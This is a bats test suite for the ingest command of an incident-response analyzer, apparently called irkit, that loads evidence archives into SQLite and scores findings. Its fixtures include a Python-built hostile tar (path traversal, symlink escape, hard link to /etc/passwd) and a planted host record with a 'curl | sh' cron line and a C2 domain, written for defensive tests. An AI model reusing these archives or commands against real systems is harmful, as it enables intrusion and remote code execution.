#!/usr/bin/env bats
bats_require_minimum_version 1.5.0
#
# irkit-analyze ingest: sqlite3 on the case database is the oracle for
# what was loaded; GNU tar and the yara CLI for what the archive holds;
# Python's tarfile builds the hostile archives.
load helpers

setup_file() {
	G="$(mktemp -d "${BATS_TMPDIR:-/tmp}/irk-ingest.XXXXXX")"
	export G
	export XDG_CACHE_HOME="$G/cache"
	"$COLLECT" --quiet -o "$G" >/dev/null 2>&1 || true
	A=$(archive_in "$G")
	export A
	mkdir -p "$G/case"
	(cd "$G/case" && "$ANALYZE" ingest "$A" > "$G/first.out" 2>&1; echo $? > "$G/first.rc")
	DB="$G/case/case.db"
	export DB
}

teardown_file() {
	full_fs_gone "$G/full"
	rm -rf "$G"
}

q() {
	sqlite3 -batch -noheader "$1" "$2"
}

@test "ingest: the collector's archive, default case.db, exit 0" {
	cat "$G/first.out"
	[ "$(cat "$G/first.rc")" -eq 0 ]
	[ -f "$DB" ]
	[[ "$(cat "$G/first.out")" == *"1 evidence"* ]]
	[ "$(q "$DB" 'PRAGMA integrity_check')" = "ok" ]
	[ "$(q "$DB" "SELECT kind||' '||verify||' '||status FROM evidence")" = "irkit intact complete" ]
}

@test "ingest: one processes row per process record in the archive" {
	want=$(tar --zstd -xOf "$A" --wildcards '*/records/processes.jsonl' | grep -c '"type":"process"')
	[ "$want" -gt 0 ]
	[ "$(q "$DB" 'SELECT count(*) FROM processes')" -eq "$want" ]
	# our own pid's record is there with its command line
	[ "$(q "$DB" "SELECT count(*) FROM processes WHERE start_time IS NOT NULL")" -gt 0 ]
	[ "$(q "$DB" "SELECT count(*) FROM events WHERE ts_desc = 'Process Start'")" -eq \
	  "$(q "$DB" "SELECT count(*) FROM processes WHERE start_time IS NOT NULL")" ]
}

@test "ingest: host and collection times from the manifest" {
	host=$(tar --zstd -xOf "$A" --wildcards '*/manifest.json' | python3 -c 'import json,sys; print(json.load(sys.stdin)["host"]["hostname"])')
	[ "$(q "$DB" 'SELECT hostname FROM hosts')" = "$host" ]
	[ "$(q "$DB" "SELECT count(*) FROM events WHERE source = 'COLLECTION'")" -eq 2 ]
	# every row of the evidence carries the host, also rows loaded before the manifest
	[ "$(q "$DB" 'SELECT count(*) FROM processes WHERE host_id IS NULL')" -eq 0 ]
	[ "$(q "$DB" 'SELECT count(*) FROM events WHERE host IS NULL')" -eq 0 ]
}

@test "ingest: every files/ member is a collected files row, hashed as sha256sum says" {
	want=$(tar --zstd -tf "$A" | grep -c '^[^/]*/files/' || true)
	[ "$(q "$DB" "SELECT count(*) FROM files WHERE origin = 'collected' AND skipped_reason IS NULL")" -eq "$want" ]
	if [ "$want" -gt 0 ]; then
		m=$(tar --zstd -tf "$A" | grep -m1 '^[^/]*/files/')
		sum=$(tar --zstd -xOf "$A" "$m" | sha256sum | cut -d' ' -f1)
		p="/${m#*/files/}"
		[ "$(q "$DB" "SELECT sha256 FROM files WHERE path = '$p' LIMIT 1")" = "$sum" ]
		[ -n "$(q "$DB" "SELECT mime FROM files WHERE path = '$p' LIMIT 1")" ]
	fi
}

@test "ingest: the same evidence again changes nothing" {
	before=$(q "$DB" "SELECT (SELECT count(*) FROM evidence)||' '||(SELECT count(*) FROM files)||' '||(SELECT count(*) FROM events)||' '||(SELECT count(*) FROM processes)||' '||(SELECT count(*) FROM findings)||' '||(SELECT count(*) FROM yara_matches)")
	cd "$G/case"
	run "$ANALYZE" ingest "$A"
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"already loaded as evidence"* ]]
	after=$(q "$DB" "SELECT (SELECT count(*) FROM evidence)||' '||(SELECT count(*) FROM files)||' '||(SELECT count(*) FROM events)||' '||(SELECT count(*) FROM processes)||' '||(SELECT count(*) FROM findings)||' '||(SELECT count(*) FROM yara_matches)")
	[ "$before" = "$after" ]
}

@test "ingest: the views answer" {
	for v in v_findings v_timeline v_suspicious_processes v_writable_persistence v_untrusted_roots v_yara_hits; do
		q "$DB" "SELECT count(*) FROM $v" >/dev/null
	done
	[ "$(q "$DB" 'SELECT count(*) FROM v_timeline')" -eq "$(q "$DB" 'SELECT count(*) FROM events')" ]
}

@test "ingest: a hostile tar (traversal, absolute, link out then a file through it) writes nothing outside" {
	h="$G/hostile"
	mkdir -p "$h/work" "$h/canary"
	python3 - "$h/evil.tar" "$h/canary" <<'PY'
import io, sys, tarfile
out, canary = sys.argv[1], sys.argv[2]
def add(t, name, data=b"pwned\n"):
	ti = tarfile.TarInfo(name); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
with tarfile.open(out, "w", format=tarfile.GNU_FORMAT) as t:
	add(t, "../../traversal.txt")
	add(t, "../" * 12 + canary.lstrip("/") + "/up.txt")
	add(t, canary + "/absolute.txt")
	ln = tarfile.TarInfo("escape"); ln.type = tarfile.SYMTYPE; ln.linkname = canary; t.addfile(ln)
	add(t, "escape/through-link.txt")
	hl = tarfile.TarInfo("hard"); hl.type = tarfile.LNKTYPE; hl.linkname = "/etc/passwd"; t.addfile(hl)
	add(t, "./ok/normal.txt", b"just a file\n")
PY
	cd "$h/work"
	run "$ANALYZE" ingest --db evil.db "$h/evil.tar"
	echo "$output"
	[ "$status" -eq 0 ]
	[ -z "$(ls -A "$h/canary")" ]
	[ ! -e "$h/traversal.txt" ] && [ ! -e "$G/traversal.txt" ]
	[ -z "$(ls -A "$h/work" | grep -v '^evil\.db\(-wal\|-shm\)\?$')" ]
	[ "$(q evil.db 'PRAGMA integrity_check')" = "ok" ]
	# every member is a row, under its name as stored
	[ "$(q evil.db 'SELECT count(*) FROM files')" -eq 7 ]
	[ "$(q evil.db "SELECT skipped_reason FROM files WHERE path = 'escape'")" = "link" ]
	[ "$(q evil.db "SELECT count(*) FROM files WHERE path = '../../traversal.txt'")" -eq 1 ]
}

@test "ingest: a truncated archive loads up to the damage, is marked partial, exit 1" {
	size=$(stat -c %s "$A")
	head -c $((size * 2 / 3)) "$A" > "$G/trunc.tar.zst"
	cd "$G"
	run "$ANALYZE" ingest --db trunc.db "$G/trunc.tar.zst"
	echo "$output"
	[ "$status" -eq 1 ]
	[ "$(q trunc.db 'PRAGMA integrity_check')" = "ok" ]
	[ "$(q trunc.db "SELECT status FROM evidence")" = "partial" ]
	[ "$(q trunc.db "SELECT verify FROM evidence")" != "intact" ]
	# the member the cut fell in keeps its row, but no digest that would
	# pass for the file's (a partial read's, or the empty content's)
	p=$(q trunc.db "SELECT path FROM log WHERE level = 'error' AND message LIKE 'member could not be read to its end%' LIMIT 1")
	[ -n "$p" ]
	[ "$(q trunc.db "SELECT coalesce(sha256, '-')||' '||skipped_reason FROM files WHERE path = '${p//\'/\'\'}'")" = "- unreadable" ]
	# and again: nothing changes
	c1=$(q trunc.db 'SELECT count(*) FROM files')
	run "$ANALYZE" ingest --db trunc.db "$G/trunc.tar.zst"
	[[ "$output" == *"already loaded as evidence"* ]]
	[ "$(q trunc.db 'SELECT count(*) FROM files')" -eq "$c1" ]
}

@test "ingest: a generic tar.gz of real binaries: (rule, file) pairs equal the yara CLI's" {
	s="$G/gen"
	mkdir -p "$s/src/bin"
	python3 "$IRKIT_SRC/tests/gen/yara_fixtures.py" "$s/src/fx" >/dev/null
	for b in ls cat bash sh tar gzip; do cp "$(command -v $b)" "$s/src/bin/" 2>/dev/null || true; done
	tar -C "$s" -czf "$s/gen.tar.gz" src
	cd "$s"
	run "$ANALYZE" ingest --db gen.db -j 2 "$s/gen.tar.gz"
	echo "$output"
	[ "$status" -eq 0 ]
	mkdir "$s/x" && tar -C "$s/x" -xzf "$s/gen.tar.gz"
	(cd "$s/x" && yara -r "$IRKIT_SRC"/yara-rules/*.yar src) | sort > "$s/oracle.txt"
	[ -s "$s/oracle.txt" ]
	q gen.db "SELECT rule||' '||path FROM v_yara_hits" | sort > "$s/ours.txt"
	diff "$s/ours.txt" "$s/oracle.txt"
	# every member is a files row with a type, its mtime on the timeline
	n=$(tar -tzf "$s/gen.tar.gz" | grep -vc '/$')
	[ "$(q gen.db 'SELECT count(*) FROM files')" -eq "$n" ]
	[ "$(q gen.db 'SELECT count(*) FROM files WHERE mime IS NULL')" -eq 0 ]
	[ "$(q gen.db "SELECT count(DISTINCT record_id) FROM events WHERE source = 'FILE'")" -eq "$n" ]
	# matches are findings, scored
	[ "$(q gen.db "SELECT count(*) FROM findings WHERE category = 'yara'")" -eq \
	  "$(q gen.db 'SELECT count(DISTINCT file_id) FROM yara_matches')" ]
}

@test "ingest: the scan cache links known content without scanning it again" {
	s="$G/gen"
	[ -f "$s/gen.tar.gz" ] || skip "needs the previous test"
	# the same files in another archive (other bytes: zip)
	(cd "$s/x" && python3 -c '
import os, zipfile
with zipfile.ZipFile("../gen.zip", "w") as z:
	for d, _, fs in os.walk("src"):
		for f in fs: z.write(os.path.join(d, f))')
	cd "$s"
	run "$ANALYZE" ingest --db gen.db "$s/gen.zip"
	echo "$output"
	[ "$status" -eq 0 ]
	# zip matches equal tar matches, file by file
	a=$(q gen.db "SELECT rule||' '||f.path FROM yara_matches y JOIN files f ON f.id = y.file_id WHERE f.evidence_id = 1" | sort)
	b=$(q gen.db "SELECT rule||' '||f.path FROM yara_matches y JOIN files f ON f.id = y.file_id WHERE f.evidence_id = 2" | sort)
	[ -n "$a" ]
	[ "$a" = "$b" ]
	[ "$(q gen.db 'SELECT count(*) FROM scan_cache')" -eq "$(q gen.db 'SELECT count(DISTINCT sha256) FROM files WHERE evidence_id = 1 AND skipped_reason IS NULL')" ]
}

@test "ingest: several inputs in one run share the scan cache" {
	s="$G/gen"
	[ -f "$s/gen.zip" ] || skip "needs the previous tests"
	cd "$s"
	run "$ANALYZE" ingest --db one.db "$s/gen.tar.gz" "$s/gen.zip"
	echo "$output"
	[ "$status" -eq 0 ]
	n=$(q one.db "SELECT count(*) FROM files WHERE evidence_id = 2 AND skipped_reason IS NULL")
	[[ "$output" == *"($n from the scan cache)"* ]]
	a=$(q one.db "SELECT rule||' '||f.path FROM yara_matches y JOIN files f ON f.id = y.file_id WHERE f.evidence_id = 1" | sort)
	b=$(q one.db "SELECT rule||' '||f.path FROM yara_matches y JOIN files f ON f.id = y.file_id WHERE f.evidence_id = 2" | sort)
	[ -n "$a" ]
	[ "$a" = "$b" ]
	# each input's identity is its SHA-256 (the second one hashed on a
	# thread while the first was loading): as sha256sum says
	[ "$(q one.db "SELECT sha256 FROM evidence ORDER BY id" | tr '\n' ' ')" = "$(sha256sum "$s/gen.tar.gz" "$s/gen.zip" | cut -d' ' -f1 | tr '\n' ' ')" ]
	[ "$(q one.db "SELECT size FROM evidence ORDER BY id" | tr '\n' ' ')" = "$(stat -c %s "$s/gen.tar.gz" "$s/gen.zip" | tr '\n' ' ')" ]
	# cached content skipped libmagic: its type came from the cache row
	[ "$(q one.db "SELECT count(*) FROM files WHERE evidence_id = 2 AND skipped_reason IS NULL AND (mime IS NULL OR magic IS NULL)")" -eq 0 ]
	[ "$(q one.db "SELECT count(*) FROM files a JOIN files b ON a.sha256 = b.sha256 WHERE a.evidence_id = 1 AND b.evidence_id = 2 AND (a.mime IS NOT b.mime OR a.magic IS NOT b.magic)")" -eq 0 ]
	# a case whose cache rows predate the type columns: the type comes
	# from a file with the same content
	sqlite3 one.db "UPDATE scan_cache SET mime = NULL, magic = NULL"
	tar -C "$s/x" -cf "$s/gen.tar" src
	run "$ANALYZE" ingest --db one.db "$s/gen.tar"
	[ "$status" -eq 0 ]
	[ "$(q one.db "SELECT count(*) FROM files WHERE evidence_id = 3 AND skipped_reason IS NULL AND (mime IS NULL OR magic IS NULL)")" -eq 0 ]
	[ "$(q one.db "SELECT count(*) FROM files a JOIN files b ON a.sha256 = b.sha256 WHERE a.evidence_id = 1 AND b.evidence_id = 3 AND (a.mime IS NOT b.mime OR a.magic IS NOT b.magic)")" -eq 0 ]
}

@test "ingest: MD5 and SHA-1 only for IOC lists that need them, or --hash all (oracle: md5sum, sha1sum)" {
	d="$G/hashes"
	mkdir -p "$d/in"
	printf 'first file\n' > "$d/in/a.txt"
	head -c 100000 /dev/urandom > "$d/in/b.bin"
	cd "$d"
	run "$ANALYZE" ingest --db plain.db --no-default-rules "$d/in"
	[ "$status" -eq 0 ]
	[ "$(q plain.db "SELECT count(*) FROM files WHERE path LIKE '%b.bin' AND sha256 = '$(sha256sum in/b.bin | cut -c1-64)' AND md5 IS NULL AND sha1 IS NULL")" -eq 1 ]
	run "$ANALYZE" ingest --db all.db --no-default-rules --hash all "$d/in"
	[ "$status" -eq 0 ]
	[ "$(q all.db "SELECT md5 || ' ' || sha1 FROM files WHERE path LIKE '%b.bin'")" = "$(md5sum in/b.bin | cut -c1-32) $(sha1sum in/b.bin | cut -c1-40)" ]
	# an MD5 IOC list turns MD5 on and finds the file
	md5sum in/a.txt | cut -c1-32 > md5.txt
	run "$ANALYZE" ingest --db ioc.db --no-default-rules --ioc md5.txt "$d/in"
	[ "$status" -eq 0 ]
	[ "$(q ioc.db "SELECT count(*) FROM files WHERE md5 IS NOT NULL")" -eq 2 ]
	[ "$(q ioc.db "SELECT count(*) FROM ioc_hits h JOIN files f ON f.id = h.file_id WHERE f.path LIKE '%a.txt' AND h.kind = 'md5'")" -eq 1 ]
	run "$ANALYZE" ingest --db x.db --hash md5 "$d/in"
	[ "$status" -eq 2 ]
}

@test "ingest: a .7z made by 7z: members, hashes (sha256sum) and matches equal the yara CLI's on the extracted files" {
	s="$G/gen"
	[ -d "$s/x/src" ] || skip "needs the generic tar test"
	d="$G/sevenz"
	mkdir -p "$d"
	(cd "$s/x" && 7z a -bd -mx=3 "$d/gen.7z" src >/dev/null)
	cd "$d"
	run "$ANALYZE" ingest --db 7z.db --no-default-rules --rules "$IRKIT_SRC/yara-rules" "$d/gen.7z"
	echo "$output"
	[ "$status" -eq 0 ]
	[ "$(q 7z.db "SELECT format FROM evidence")" != "" ]
	# oracle: 7z's own listing and extraction
	mkdir x && (cd x && 7z x -bd "$d/gen.7z" >/dev/null)
	(cd x && find src -type f | sort) > want-files.txt
	q 7z.db "SELECT path FROM files WHERE skipped_reason IS NULL" | sed 's|^/||' | sort > ours-files.txt
	diff ours-files.txt want-files.txt
	(cd x && find src -type f -exec sha256sum {} + | awk '{print $2, $1}' | sort) > want-sums.txt
	q 7z.db "SELECT path || ' ' || sha256 FROM files" | sed 's|^/||' | sort > ours-sums.txt
	diff ours-sums.txt want-sums.txt
	(cd x && yara -r "$IRKIT_SRC"/yara-rules/*.yar src) | sort > oracle.txt
	[ -s oracle.txt ]
	q 7z.db "SELECT rule||' '||path FROM v_yara_hits" | sed 's| /| |' | sort > ours.txt
	diff ours.txt oracle.txt
	# a damaged .7z: loaded up to the damage or refused, exit 1, db intact
	head -c $(( $(stat -c %s gen.7z) / 2 )) gen.7z > half.7z
	run "$ANALYZE" ingest --db half.db "$d/half.7z"
	echo "$output"
	[ "$status" -eq 1 ]
	[[ "$output" == *half.7z* ]]
	[ "$(q half.db 'PRAGMA integrity_check')" = ok ]
}

@test "ingest: a load that never finished (status loading) is redone, not skipped; the scan cache stays true" {
	s="$G/gen"
	[ -f "$s/gen.tar.gz" ] || skip "needs the generic tar test"
	d="$G/resume"
	mkdir -p "$d"
	cd "$d"
	run "$ANALYZE" ingest --db r.db -j 2 "$s/gen.tar.gz"
	[ "$status" -eq 0 ]
	[ "$(q r.db "SELECT status FROM evidence")" = complete ]
	want=$(q r.db "SELECT (SELECT count(*) FROM files)||' '||(SELECT count(*) FROM events)||' '||(SELECT count(*) FROM yara_matches)||' '||(SELECT count(*) FROM findings)")
	# what a kill -9 half way leaves: committed batches, the row still
	# 'loading', the later files (and all they brought) absent
	sqlite3 r.db "UPDATE evidence SET status = 'loading';
		CREATE TEMP TABLE gone AS SELECT id FROM files WHERE id > (SELECT max(id) / 2 FROM files);
		DELETE FROM yara_matches WHERE file_id IN gone;
		DELETE FROM ioc_hits WHERE file_id IN gone;
		DELETE FROM events WHERE record_table = 'files' AND record_id IN gone;
		DELETE FROM finding_links; DELETE FROM findings;
		DELETE FROM files WHERE id IN gone;"
	run "$ANALYZE" ingest --db r.db -j 2 "$s/gen.tar.gz"
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"did not finish: loading it again"* ]]
	[ "$(q r.db "SELECT count(*) || ' ' || status FROM evidence")" = "1 complete" ]
	[ "$(q r.db "SELECT (SELECT count(*) FROM files)||' '||(SELECT count(*) FROM events)||' '||(SELECT count(*) FROM yara_matches)||' '||(SELECT count(*) FROM findings)")" = "$want" ]
	q r.db "SELECT rule||' '||path FROM v_yara_hits" | sort > ours.txt
	diff ours.txt "$s/oracle.txt"
	[ "$(q r.db 'PRAGMA integrity_check')" = ok ]
	[ -z "$(q r.db 'PRAGMA foreign_key_check')" ]
	# every cached content with matches still has them to link to
	[ "$(q r.db "SELECT count(*) FROM scan_cache c WHERE matches > 0 AND NOT EXISTS (SELECT 1 FROM yara_matches y WHERE y.sha256 = c.sha256)")" -eq 0 ]
	# a finished load is still not loaded twice
	run "$ANALYZE" ingest --db r.db "$s/gen.tar.gz"
	[ "$status" -eq 0 ]
	[[ "$output" == *"already loaded as evidence"* ]]
	# one loader at a time: a second one is refused while the first runs
	# (flock(1) from util-linux holds the same kind of lock)
	run flock r.db "$ANALYZE" ingest --db r.db "$s/gen.zip"
	[ "$status" -eq 3 ]
	[[ "$output" == *"is being loaded by another irkit-analyze"* ]]
	[ "$(q r.db "SELECT count(*) FROM evidence")" -eq 1 ]
}

@test "ingest: a directory; a link out of it is recorded, not followed" {
	d="$G/dir"
	mkdir -p "$d/ev/sub" "$d/outside"
	echo secret > "$d/outside/secret.txt"
	echo hello > "$d/ev/sub/a.txt"
	ln -s "$d/outside/secret.txt" "$d/ev/link"
	ln -s ../../outside "$d/ev/sub/up"
	cd "$d"
	run "$ANALYZE" ingest --db d.db "$d/ev"
	echo "$output"
	[ "$status" -eq 0 ]
	[ "$(q d.db "SELECT kind FROM evidence")" = "directory" ]
	[ "$(q d.db "SELECT count(*) FROM files WHERE path LIKE '%secret%'")" -eq 0 ]
	[ "$(q d.db "SELECT skipped_reason FROM files WHERE path = '/link'")" = "link" ]
	[ "$(q d.db "SELECT sha256 FROM files WHERE path = '/sub/a.txt'")" = "$(sha256sum < "$d/ev/sub/a.txt" | cut -d' ' -f1)" ]
}

@test "ingest: usage errors exit 2, --help exits 0" {
	run "$ANALYZE" ingest
	[ "$status" -eq 2 ]
	run "$ANALYZE" ingest -j 0 x
	[ "$status" -eq 2 ]
	run "$ANALYZE" ingest --max-file-size banana x
	[ "$status" -eq 2 ]
	run "$ANALYZE" ingest --read-ahead sometimes x
	[ "$status" -eq 2 ]
	[[ "$output" == *"bad --read-ahead"* ]]
	run "$ANALYZE" ingest --help
	[ "$status" -eq 0 ]
	[[ "$output" == *"usage: irkit-analyze ingest"* ]]
	cd "$G"
	run "$ANALYZE" ingest --db nothing.db /nonexistent/evidence.tar
	[ "$status" -eq 1 ]
}

@test "ingest: files above --max-file-size are rows marked too large, still hashed" {
	s="$G/big"
	mkdir -p "$s/src"
	head -c 300000 /dev/urandom > "$s/src/big.bin"
	echo small > "$s/src/small.txt"
	tar -C "$s" -cf "$s/b.tar" src
	cd "$s"
	run "$ANALYZE" ingest --db b.db --max-file-size 100k "$s/b.tar"
	echo "$output"
	[ "$status" -eq 0 ]
	[ "$(q b.db "SELECT skipped_reason FROM files WHERE path = 'src/big.bin'")" = "too large" ]
	[ "$(q b.db "SELECT sha256 FROM files WHERE path = 'src/big.bin'")" = "$(sha256sum < "$s/src/big.bin" | cut -d' ' -f1)" ]
	[ -z "$(q b.db "SELECT skipped_reason FROM files WHERE path = 'src/small.txt'")" ]
}

@test "ingest: an archive bomb (300 MB of zeros in a few kB) stops at the ratio check, partial, exit 1" {
	s="$G/bomb"
	mkdir -p "$s/src"
	truncate -s 300M "$s/src/zeros"
	tar -C "$s" --zstd -cf "$s/bomb.tar.zst" src
	rm -f "$s/src/zeros"
	[ "$(stat -c %s "$s/bomb.tar.zst")" -lt 1000000 ]
	cd "$s"
	run "$ANALYZE" ingest --db bomb.db "$s/bomb.tar.zst"
	echo "$output"
	[ "$status" -eq 1 ]
	[[ "$output" == *"compression ratio"* ]]
	[ "$(q bomb.db "SELECT status FROM evidence")" = "partial" ]
	[ "$(q bomb.db 'PRAGMA integrity_check')" = "ok" ]
}

@test "ingest: --read-ahead on (the archive read on a thread of its own) loads what off loads: intact, truncated, bomb (oracle: sha256sum of GNU tar's extraction)" {
	s="$G/ahead"
	mkdir -p "$s/x" "$s/src"
	size=$(stat -c %s "$A")
	head -c $((size * 2 / 3)) "$A" > "$s/trunc.tar.zst"
	truncate -s 300M "$s/src/zeros"
	tar -C "$s" --zstd -cf "$s/bomb.tar.zst" src
	rm -f "$s/src/zeros"
	for j in 1 2; do
		rm -f "$s/j$j.db"
		ra=off
		[ "$j" = 2 ] && ra=on
		run "$ANALYZE" ingest -j "$j" --read-ahead "$ra" --no-default-rules --db "$s/j$j.db" \
			"$A" "$s/trunc.tar.zst" "$s/bomb.tar.zst"
		echo "$output"
		[ "$status" -eq 1 ]
		[[ "$output" == *"compression ratio"* ]]
		q "$s/j$j.db" "SELECT kind||' '||status||' '||verify||' '||coalesce(verify_detail, '') FROM evidence ORDER BY id" > "$s/ev$j"
		q "$s/j$j.db" "SELECT evidence_id||' '||path||' '||coalesce(size, '')||' '||coalesce(sha256, '') FROM files f WHERE NOT EXISTS (SELECT 1 FROM log l WHERE l.evidence_id = f.evidence_id AND l.path = f.path) ORDER BY evidence_id, path, sha256" > "$s/files$j"
		q "$s/j$j.db" "SELECT evidence_id||' '||level||' '||coalesce(path, '')||' '||message FROM log WHERE evidence_id IS NOT NULL ORDER BY evidence_id, component, path, message" > "$s/log$j"
	done
	cat "$s/ev2"
	grep -q '^irkit complete intact ' "$s/ev2"
	[ "$(grep -c ' partial ' "$s/ev2")" -eq 2 ]
	diff "$s/ev1" "$s/ev2"
	# a member cut short is hashed and scanned as far as it could be
	# read, which depends on the sizes asked of libarchive: those (named
	# in the log) aside, the same rows
	diff "$s/files1" "$s/files2"
	diff "$s/log1" "$s/log2"
	# the collected files' digests are sha256sum's of what GNU tar extracts
	tar -C "$s/x" --zstd -xf "$A"
	n=0
	while read -r f; do
		p="/${f#*/files/}"
		[ "$(q "$s/j2.db" "SELECT sha256 FROM files WHERE evidence_id = 1 AND path = '${p//\'/\'\'}' AND origin = 'collected' LIMIT 1")" = \
		  "$(sha256sum < "$s/x/$f" | cut -d' ' -f1)" ] || { echo "differs: $p"; return 1; }
		n=$((n + 1))
	done < <(cd "$s/x" && find . -path './*/files/*' -type f -size -1000k | sed 's|^\./||' | head -200)
	[ "$n" -gt 0 ]
}

@test "ingest: a planted host: findings with reasons, IOC hits on records, links, a manifest Python wrote" {
	s="$G/planted"
	mkdir -p "$s"
	python3 - "$s/irkit-planted-20260101T000000Z.tar.gz" <<'PY'
import hashlib, io, json, sys, tarfile
top = "irkit-planted-20260101T000000Z"
recs = [
 {"type": "process", "pid": 4242, "ppid": 1, "name": "gracious", "exe": "/tmp/gracious_truth.jpg",
  "exe_deleted": True, "argv": ["/tmp/gracious_truth.jpg", "--c2", "avsvmcloud.com"],
  "start_time": "2026-01-01T00:00:00Z",
  "sockets": [{"proto": "tcp", "local_address": "10.0.0.5", "local_port": 40000,
               "remote_address": "10.9.9.9", "remote_port": 443, "state": "ESTABLISHED"}]},
 {"type": "process", "pid": 1, "ppid": 0, "name": "systemd", "exe": "/usr/lib/systemd/systemd",
  "argv": ["/sbin/init"], "start_time": "2025-12-31T00:00:00Z"},
 {"type": "service", "name": "updater.service", "kind": "systemd", "scope": "system",
  "exec_start": [["/dev/shm/.u/updater", "-d"]], "enabled": True, "mtime": "2026-01-01T00:00:01Z",
  "fragment_path": "/etc/systemd/system/updater.service"},
 {"type": "task", "kind": "cron", "schedule": "*/5 * * * *", "user": "root",
  "command": "curl -fsSL http://freescanonline.com/i.sh | sh", "source_path": "/etc/cron.d/x", "line": 3},
 {"type": "task", "kind": "cron", "schedule": "@daily", "user": "root",
  "command": "/usr/sbin/logrotate /etc/logrotate.conf", "source_path": "/etc/crontab", "line": 9},
 {"type": "certificate", "path": "/opt/sign/cs.pem", "index": 0, "subject": "CN=Planted Signing",
  "not_before": "2025-01-01T00:00:00Z", "not_after": "2027-01-01T00:00:00Z",
  "ext_key_usage": ["codeSigning"], "private_key_path": "/opt/sign/cs.key", "sha256": "ab" * 32,
  "mtime": "2025-07-01T00:00:00Z"},
 {"type": "private_key", "path": "/opt/sign/cs.key", "format": "pkcs8", "key_type": "RSA",
  "bits": 2048, "encrypted": False, "certificate_path": "/opt/sign/cs.pem",
  "mtime": "2025-06-01T00:00:00Z"},
 {"type": "certificate", "path": "/usr/local/share/ca-certificates/corp.crt", "subject": "CN=Evil Root",
  "is_ca": True, "self_signed": True, "in_trust_store": True, "sha256": "cd" * 32,
  "not_before": "2025-01-01T00:00:00Z", "not_after": "2035-01-01T00:00:00Z"},
]
data = {"records/processes.jsonl": "".join(json.dumps(r) + "\n" for r in recs).encode(),
        "log.jsonl": b'{"time":"2026-01-01T00:00:02Z","level":"warning","collector":"processes","message":"test"}\n'}
members = [{"path": k, "size": len(v), "sha256": hashlib.sha256(v).hexdigest()} for k, v in data.items()]
man = {"format": "irkit-evidence", "format_version": 1, "name": top,
       "host": {"hostname": "planted", "machine_id": "0" * 32},
       "start_time": "2026-01-01T00:00:00Z", "end_time": "2026-01-01T00:00:05Z",
       "case_id": "CASE-7", "examiner": "tester", "members": members}
data["manifest.json"] = json.dumps(man).encode()
with tarfile.open(sys.argv[1], "w:gz") as t:
	for k, v in data.items():
		ti = tarfile.TarInfo(top + "/" + k); ti.size = len(v); ti.mtime = 1767225600
		t.addfile(ti, io.BytesIO(v))
PY
	cd "$s"
	sha256sum irkit-planted-20260101T000000Z.tar.gz > irkit-planted-20260101T000000Z.tar.gz.sha256
	run "$ANALYZE" verify "$s/irkit-planted-20260101T000000Z.tar.gz"
	echo "$output"
	[ "$status" -eq 0 ]
	run "$ANALYZE" ingest --db p.db "$s/irkit-planted-20260101T000000Z.tar.gz"
	echo "$output"
	[ "$status" -eq 0 ]
	[ "$(q p.db "SELECT case_id||' '||examiner||' '||verify FROM evidence")" = "CASE-7 tester intact" ]
	q p.db "SELECT score, title, reasons FROM v_findings"
	# the planted process: deleted, in /tmp, file-name and domain IOCs, capped at 100
	[ "$(q p.db "SELECT max(score) FROM findings f JOIN finding_links l ON l.finding_id = f.id WHERE l.record_table = 'processes' AND l.record_id = (SELECT id FROM processes WHERE pid = 4242)")" -eq 100 ]
	[ "$(q p.db "SELECT count(*) FROM ioc_hits WHERE record_table = 'processes' AND value = 'avsvmcloud.com'")" -ge 1 ]
	[ "$(q p.db "SELECT count(*) FROM ioc_hits WHERE record_table = 'processes' AND kind = 'filename'")" -ge 1 ]
	# init is not a finding
	[ "$(q p.db "SELECT count(*) FROM finding_links WHERE record_table = 'processes' AND record_id = (SELECT id FROM processes WHERE pid = 1)")" -eq 0 ]
	# service from /dev/shm, the curl|sh task with its C2 domain; logrotate is clean
	[ "$(q p.db "SELECT count(*) FROM v_writable_persistence WHERE name = 'updater.service'")" -eq 1 ]
	[[ "$(q p.db "SELECT reasons FROM findings WHERE category = 'task'")" == *"pipes a download into a shell"* ]]
	[ "$(q p.db "SELECT count(*) FROM ioc_hits WHERE record_table = 'tasks' AND value = 'freescanonline.com'")" -eq 1 ]
	[ "$(q p.db "SELECT count(*) FROM finding_links l JOIN tasks t ON t.id = l.record_id AND l.record_table = 'tasks' WHERE t.command LIKE '%logrotate%'")" -eq 0 ]
	# code signing with its key unencrypted: links both; the untrusted root
	[ "$(q p.db "SELECT group_concat(l.record_table) FROM findings f JOIN finding_links l ON l.finding_id = f.id WHERE f.title LIKE 'code-signing%'")" = "certificates,private_keys" ]
	# dated when the pair came to the host (the key's mtime, the earlier),
	# not by notBefore (2025-01-01): validity dates are no activity
	[ "$(q p.db "SELECT ts FROM findings WHERE title LIKE 'code-signing%'")" = "$(( $(date -u -d 2025-06-01T00:00:00Z +%s) * 1000000 ))" ]
	[ "$(q p.db "SELECT count(*) FROM v_untrusted_roots")" -eq 1 ]
	[ "$(q p.db "SELECT count(*) FROM findings WHERE title LIKE 'trusted root%'")" -eq 1 ]
	# sockets, log, timeline
	[ "$(q p.db "SELECT remote_addr||':'||remote_port FROM sockets")" = "10.9.9.9:443" ]
	[ "$(q p.db "SELECT message FROM log WHERE component = 'processes'")" = "test" ]
	[ "$(q p.db "SELECT count(*) FROM events WHERE source = 'FINDING'")" -eq "$(q p.db 'SELECT count(*) FROM findings')" ]
	[ "$(q p.db "SELECT time FROM v_timeline WHERE ts_desc = 'Certificate Not After' AND path = '/opt/sign/cs.pem'")" = "2027-01-01T00:00:00.000Z" ]
}

@test "the collector's own process is not a finding; another program in /tmp is" {
	setup_scratch
	case "$SCRATCH" in /tmp/*) ;; *) skip "scratch is not under /tmp" ;; esac
	cp "$COLLECT" "$SCRATCH/irkit-collect"
	cp /bin/sleep "$SCRATCH/sleeper"
	"$SCRATCH/sleeper" 60 &
	spid=$!
	mkdir "$SCRATCH/out"
	"$SCRATCH/irkit-collect" -q --only processes -o "$SCRATCH/out" || true
	kill "$spid"
	"$ANALYZE" ingest --no-default-rules --db "$SCRATCH/c.db" "$SCRATCH"/out/*.tar.zst
	run sqlite3 "$SCRATCH/c.db" "select count(*) from findings where title like 'process irkit-collect %'"
	[ "$output" -eq 0 ]
	run sqlite3 "$SCRATCH/c.db" "select count(*) from findings where title = 'process sleeper (pid $spid)'"
	[ "$output" -eq 1 ]
	teardown_scratch
}

# Two hosts' folders with the same web shell at other paths (a harmless
# fixture of tests/gen/yara_fixtures.py), as two tar.gz in $1.
